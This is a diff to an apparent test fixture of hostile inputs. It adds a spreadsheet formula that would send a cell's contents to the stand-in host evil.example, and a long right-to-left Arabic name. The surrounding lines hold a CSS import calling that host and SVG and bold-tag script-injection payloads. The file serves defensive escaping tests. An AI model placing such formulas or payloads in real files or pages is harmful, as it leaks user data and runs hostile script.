@@ -34,6 +34,9 @@ HOSTILE = (
     "A" * 400,
     "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
 )
+#: A name that a spreadsheet would run and one that is written from right to left, each long enough for three lines.
+FORMULA_TEAM = '=HYPERLINK("https://evil.example/?"&A1, "open")'
+RIGHT_TO_LEFT_TEAM = "فريق حماية البيانات " * 12
 HOSTILE_TARGET = f"<svg onload='{PAYLOAD}'>"
 HOSTILE_TEAM = f"<b onmouseover='{PAYLOAD}'>team</b>"
 
